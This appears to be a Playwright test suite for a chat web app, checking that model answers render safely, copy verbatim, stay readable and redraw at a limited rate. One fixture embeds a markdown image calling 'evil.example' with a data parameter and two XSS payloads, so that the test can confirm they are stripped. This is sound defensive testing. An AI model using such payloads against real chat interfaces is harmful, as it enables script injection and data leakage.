"""How an answer is shown: harmless, readable, copied as it was written, drawn without haste."""

import re

import pytest
from playwright.sync_api import expect

from app.tests.fakes.openai_server import OpenAIServer, Reply
from app.tests.journeys.conftest import WIDE, Arrive
from app.tests.journeys.talking import SLOWLY, answers, button, further, prepare
from app.tests.journeys.test_look import CONTRASTS
from app.tests.journeys.visitor import Visitor

RICH = Reply(
    pieces=(
        "## Draft\n\nDear **Ms. Okafor**, see [the law](https://example.org/law)",
        " ![leak](https://evil.example/?d=1) <script>alert(1)</script><img src=x onerror=alert(1)>",
        "\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```py\n",
        f"{'x' * 300}\n```\n",
    ),
    delay_s=0.15,
)


@pytest.fixture
def address(answering: tuple[OpenAIServer, str]) -> str:
    return answering[1]


def test_an_answer_can_harm_nobody(
    arrive: Arrive, address: str, model: OpenAIServer, width: int
) -> None:
    visitor = arrive(address, width)
    prepare(visitor)
    model.script(RICH)
    button(visitor, "Send").click()
    answer = answers(visitor, 1)
    expect(answer.locator("strong")).to_have_text("Ms. Okafor")
    expect(answer.locator("li")).to_have_count(2)
    expect(answer.locator("td")).to_have_count(2)
    expect(answer.locator("pre code")).to_contain_text("xxx")
    expect(answer.locator("img, script, iframe")).to_have_count(0)
    link = answer.get_by_role("link", name="the law")
    expect(link).to_have_attribute("rel", re.compile("noopener"))
    wide = visitor.page.evaluate(
        "[...document.querySelectorAll('#talk, #talk .exchange, #talk .answer, #talk pre')]"
        ".map((at) => at.getBoundingClientRect().right).every((right) => right <= innerWidth)"
    )
    assert wide, "a long line of code widens the page"


def test_an_answer_is_copied_as_the_model_wrote_it(
    arrive: Arrive, address: str, model: OpenAIServer
) -> None:
    visitor = arrive(address, permissions=["clipboard-read", "clipboard-write"])
    prepare(visitor)
    model.script(Reply(pieces=("Dear **Ms. Okafor**,\n\n", "- one & <two>")))
    button(visitor, "Send").click()
    answers(visitor, 1)
    visitor.note_labels()
    button(visitor, "Copy answer").click()
    visitor.wait_for_label("Copied")
    copied = visitor.page.evaluate("navigator.clipboard.readText()")
    assert copied == "Dear **Ms. Okafor**,\n\n- one & <two>"


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_every_text_of_a_conversation_can_be_read_and_every_control_has_a_name(
    arrive: Arrive, address: str, model: OpenAIServer, width: int, scheme: str
) -> None:
    visitor = arrive(address, width, color_scheme=scheme, reduced_motion="reduce")
    visitor.knows("Section 7 of my lease: the landlord must repair heating in ten days", "ARTIFACT")
    prepare(visitor)
    model.script(RICH, Reply(pieces=("Half [1]",), finish="length"), SLOWLY)
    button(visitor, "Send").click()
    answers(visitor, 1)
    further(visitor, "by when must my landlord repair the heating?")
    answers(visitor, 2)
    _readable(visitor)
    further(visitor, "and then?")
    expect(visitor.page.locator("#live .answer")).to_contain_text("Zanzibar")
    _readable(visitor)
    moving = visitor.page.evaluate(
        "[...document.querySelectorAll('#talk *')]"
        ".filter((at) => getComputedStyle(at).animationName !== 'none').length"
    )
    assert moving == 0


def _readable(visitor: Visitor) -> None:
    assert [pair for pair in visitor.page.evaluate(CONTRASTS) if pair[0] < 4.5] == []
    for line in visitor.page.locator("body").aria_snapshot().splitlines():
        control = line.strip().removeprefix("- ").rstrip(":")
        assert control not in {"button", "textbox", "link", "region"}
    assert visitor.overflow() == 0


def test_many_pieces_are_drawn_ten_times_a_second_at_most(
    arrive: Arrive, address: str, model: OpenAIServer
) -> None:
    visitor = arrive(address, WIDE)
    prepare(visitor)
    model.script(Reply(pieces=tuple(f"{n} " for n in range(400)), delay_s=0.004))
    visitor.page.evaluate(
        """() => {
            window.drawn = 0;
            new MutationObserver((seen) => {
                if (seen.some((one) => one.target.closest?.("#live"))) window.drawn += 1;
            }).observe(document.querySelector("#main"), { childList: true, subtree: true });
            window.began = performance.now();
        }"""
    )
    button(visitor, "Send").click()
    expect(answers(visitor, 1)).to_contain_text("399")
    drawn, seconds = visitor.page.evaluate("[drawn, (performance.now() - began) / 1000]")
    assert 3 <= drawn <= 12 * seconds + 5
